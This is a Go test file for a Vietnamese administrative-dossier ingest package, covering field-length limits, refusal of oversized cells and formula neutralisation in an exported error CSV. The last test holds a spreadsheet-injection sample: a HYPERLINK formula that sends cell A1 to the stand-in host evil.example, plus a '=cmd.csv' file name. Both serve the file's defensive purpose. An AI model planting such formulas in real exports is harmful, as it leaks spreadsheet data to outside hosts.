package ingest

import (
	"errors"
	"strings"
	"testing"
)

func TestFieldCaps(t *testing.T) {
	head := "Mã hồ sơ,Tên thủ tục,Ngày tiếp nhận,Ngày hẹn trả,Trạng thái\n"
	long := strings.Repeat("Cấp giấy phép ", 100) // 1,399 characters once trimmed
	in := head +
		"H1," + long + ",01/03/2026,05/03/2026,4\n" +
		strings.Repeat("H", 65) + ",Tên ngắn,01/03/2026,05/03/2026,4\n" +
		"H3,Tên ngắn,01/03/2026,05/03/2026,4\n"
	r, err := openString(t, in, FormatCSV, KindDossiers)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := readAll(t, r)
	if err != nil || len(rows) != 3 {
		t.Fatalf("%d rows, err %v", len(rows), err)
	}
	for i, want := range []string{
		`in.csv:2: column "Tên thủ tục": "Cấp giấy phép Cấp giấy phép`,
		`in.csv:3: column "Mã hồ sơ": "HHHH`,
	} {
		if len(rows[i].Errors) != 1 {
			t.Fatalf("row %d: errors %v", i+2, rows[i].Errors)
		}
		e := rows[i].Errors[0]
		if !strings.HasPrefix(e.Error(), want) {
			t.Errorf("row %d: %q, want prefix %q", i+2, e, want)
		}
		if len([]rune(e.Value)) > maxErrorValue {
			t.Errorf("row %d: the error repeats %d characters of the value", i+2, len([]rune(e.Value)))
		}
	}
	if got, want := rows[0].Errors[0].Reason, "is 1399 characters long: field ten_tthc holds at most 1000 (INGEST_MAX_TEXT_CHARS)"; got != want {
		t.Errorf("reason %q, want %q", got, want)
	}
	if got, want := rows[1].Errors[0].Reason, "is 65 characters long: field ma_ho_so holds at most 64 (INGEST_MAX_CODE_CHARS)"; got != want {
		t.Errorf("reason %q, want %q", got, want)
	}
	if !rows[2].OK() {
		t.Errorf("row 4: %v", rows[2].Errors)
	}
}

// The 30 MB procedure name: the file is refused before any row.
func TestHugeProcedureName(t *testing.T) {
	in := "Mã hồ sơ,Tên thủ tục,Ngày tiếp nhận,Ngày hẹn trả,Trạng thái\nH1," + strings.Repeat("x", 30<<20) + ",01/03/2026,05/03/2026,4\n"
	for _, f := range []Format{FormatCSV, FormatNDJSON} {
		data := in
		if f == FormatNDJSON {
			data = `{"ma_ho_so":"H1","ten_tthc":"` + strings.Repeat("x", 30<<20) + `","ngay_tiep_nhan":"01/03/2026","ngay_hen_tra":"05/03/2026","trang_thai":4}` + "\n"
		}
		r, err := openString(t, data, f, KindDossiers)
		if err == nil {
			_, err = readAll(t, r)
		}
		var le *LimitError
		if !errors.As(err, &le) || le.Limit != LimitCell || le.Stopped {
			t.Errorf("%s: err %v; want a refusal on %s", f, err, LimitCell)
		}
	}
}

// The error report a secretariat opens in Excel never runs a wrong value.
func TestErrorsCSVNeutralisesFormulas(t *testing.T) {
	var b strings.Builder
	errs := []*RowError{{File: "=cmd.csv", Line: 3, Column: "Họ tên", Field: "ho_ten", Value: `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, Reason: "is required"}}
	if err := WriteErrorsCSV(&b, errs); err != nil {
		t.Fatal(err)
	}
	want := "'=cmd.csv,3,Họ tên,ho_ten,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm vào đây\"\")\",is required\n"
	if lines := strings.SplitN(b.String(), "\n", 2); len(lines) != 2 || lines[1] != want {
		t.Errorf("got %q\nwant %q", b.String(), want)
	}
}
